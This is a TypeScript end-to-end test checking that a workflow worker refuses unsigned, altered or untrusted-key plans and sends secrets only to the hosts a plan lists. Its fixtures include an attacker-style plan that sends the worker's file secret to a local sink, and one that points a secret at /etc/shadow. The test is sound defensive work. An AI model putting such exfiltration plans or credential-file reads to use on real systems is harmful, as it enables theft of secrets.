// End-to-end test of plan trust on a real Temporal server and a worker process: unsigned, altered and foreign-signed plans never run a step or resolve a secret.
import { randomBytes } from 'node:crypto';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { hashPlan } from '../../compiler/index.ts';
import { finalStatus, startRun } from '../../client/runs.ts';
import { generateKeyPair, signPlan, signingKey } from '../../client/signing.ts';
import { createPrivateKey } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { WORKFLOW_TYPE, type RunInput } from '../../contract/run.ts';
import type { Plan } from '../../contract/plan.ts';
import { startHttpServer } from '../helpers/http-server.ts';
import { startWorkerProcess, type WorkerProcess } from '../helpers/worker-process.ts';
import { connect, planOf, uniqueSite } from '../helpers/runs.ts';

const secret = `worker-only-${randomBytes(8).toString('hex')}`;
const secretsDir = mkdtempSync(join(tmpdir(), 'rebound-trust-'));
writeFileSync(join(secretsDir, 'token'), secret, { mode: 0o600 });

let worker: WorkerProcess;
let sink: Awaited<ReturnType<typeof startHttpServer>>;
const site = uniqueSite('trust');

beforeAll(async () => {
  sink = await startHttpServer();
  // The worker holds a file secret, confined to its secrets folder.
  worker = await startWorkerProcess({ address: inject('temporalAddress'), site, bundle: inject('workflowBundle'), env: { REBOUND_SECRETS_DIR: secretsDir } });
});
afterAll(() => worker?.kill());

/** The attacker's plan: send the worker's file secret to a sink of theirs. */
const exfiltrate = (): Plan =>
  planOf(`apiVersion: rebound/v1\nkind: Runbook\nmetadata: {name: exfil}\nspec:
  secrets: {token: {file: token}}
  steps:
    - id: send
      uses: http.check
      retry: {max_attempts: 1}
      with: {url: "${sink.url('/sink')}", headers: {X-Token: "\${{ secrets.token }}"}}
`);

async function startRaw(input: RunInput) {
  const client = await connect(inject('temporalAddress'));
  const handle = await client.workflow.start(WORKFLOW_TYPE, {
    taskQueue: `rebound-${site}`,
    workflowId: `trust-${randomBytes(4).toString('hex')}`,
    args: [input],
  });
  return finalStatus(handle);
}

describe('trusted plans', () => {
  it('a signed plan runs and its secret reaches the runbook’s own destination (positive control)', async () => {
    const client = await connect(inject('temporalAddress'));
    const status = await finalStatus(await startRun(client, exfiltrate(), {}, { taskQueue: `rebound-${site}` }));
    expect(status.state).toBe('succeeded');
    expect(sink.requests.filter((r) => r.path === '/sink').map((r) => r.headers['x-token'])).toEqual([secret]);
    sink.requests.length = 0;
  });

  it('a hand-made plan started with a raw workflow start fails before any step, and the sink receives nothing', async () => {
    const status = await startRaw({ plan: exfiltrate(), params: {} });
    expect(status.state).toBe('failed');
    expect(status.error).toMatch(/untrusted plan, not run: plan [0-9a-f]{12} is not signed; start it with rebound/);
    expect(status.steps.map((s) => s.status)).toEqual(['pending']);
    expect(sink.requests).toEqual([]);
  });

  it('a signed plan whose secret table was changed afterwards is refused, even with its hash recomputed', async () => {
    const signed = exfiltrate();
    const signatures = signPlan(signed);
    const { hash: _old, ...body } = { ...signed, secrets: { token: { file: '/etc/shadow' } } };
    const tampered = { ...body, hash: hashPlan(body) } as Plan;
    // The old hash's signature under the new hash, and the new content under the old hash.
    const moved = await startRaw({ plan: tampered, params: {}, signatures: { [tampered.hash]: signatures[signed.hash]! } });
    expect(moved.error).toMatch(/the signature does not match its content/);
    const kept = await startRaw({ plan: { ...tampered, hash: signed.hash }, params: {}, signatures });
    expect(kept.error).toMatch(/its content hashes to [0-9a-f]{12}, not to its hash/);
    expect(sink.requests).toEqual([]);
  });

  it('a plan signed by a key the worker does not trust is refused, naming the key', async () => {
    const other = generateKeyPair(mkdtempSync(join(tmpdir(), 'rebound-other-key-')));
    const plan = exfiltrate();
    const status = await startRaw({ plan, params: {}, signatures: signPlan(plan, createPrivateKey(readFileSync(other.privatePath))) });
    expect(status.error).toContain(`signed by key ${other.fingerprint}, which this worker does not trust`);
    expect(signingKey()).toBeDefined();
    expect(sink.requests).toEqual([]);
  });

  it('a secret is sent only to the hosts it lists: a parameter pointing elsewhere is refused before anything is sent', async () => {
    const client = await connect(inject('temporalAddress'));
    const plan = planOf(`apiVersion: rebound/v1\nkind: Runbook\nmetadata: {name: hosts}\nspec:
  parameters: {api_url: {type: string, required: true}}
  secrets: {token: {file: token, hosts: [127.0.0.1]}}
  steps:
    - id: send
      uses: http.check
      retry: {max_attempts: 1}
      with: {url: "\${{ params.api_url }}", headers: {X-Token: "\${{ secrets.token }}"}}
`);
    const elsewhere = sink.url('/hosts').replace('127.0.0.1', 'localhost');
    const refused = await finalStatus(await startRun(client, plan, { api_url: elsewhere }, { taskQueue: `rebound-${site}` }));
    expect(refused.state).toBe('failed');
    expect(refused.steps[0]!.reason).toContain('secret "token" may go only to 127.0.0.1; with.url points at localhost, so nothing was sent');
    expect(sink.requests).toEqual([]);
    // The listed host gets it (positive control).
    const sent = await finalStatus(await startRun(client, plan, { api_url: sink.url('/hosts') }, { taskQueue: `rebound-${site}` }));
    expect(sent.state).toBe('succeeded');
    expect(sink.requests.map((r) => r.headers['x-token'])).toEqual([secret]);
  });
});
